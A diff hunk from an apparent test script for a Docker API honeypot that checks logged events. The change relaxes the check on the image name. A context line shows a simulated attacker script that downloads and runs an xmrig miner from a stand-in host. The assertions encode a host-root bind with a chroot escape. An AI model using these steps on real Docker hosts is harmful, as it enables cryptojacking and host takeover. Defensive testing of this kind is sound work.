@@ -46,7 +46,7 @@ printf '#!/bin/sh\ncurl -s http://203.0.113.9/xmrig -o /tmp/x && /tmp/x -o pool.
 dk cp "$W/m.sh" web:/tmp/ || fail "cp"
 hp_stop
 
-[ "$(hp_count '.eventid=="docker.image.create" and .request.image=="alpine:3.20"')" = 1 ] || fail "pull event"
+[ "$(hp_count '.eventid=="docker.image.create" and (.request.image|test("^(docker.io/library/)?alpine:3.20$"))')" = 1 ] || fail "pull event"
 [ "$(hp_count '.eventid=="docker.container.create" and .request.binds==["/:/host"] and .request.cmd==["chroot","/host","sh"]')" = 1 ] || fail "create event"
 [ "$(hp_count '.eventid=="docker.container.attach"')" -ge 3 ] || fail "attach events"
 [ "$(hp_count '.eventid=="docker.stdin" and .request.line=="whoami"')" = 1 ] || fail "stdin line 1"
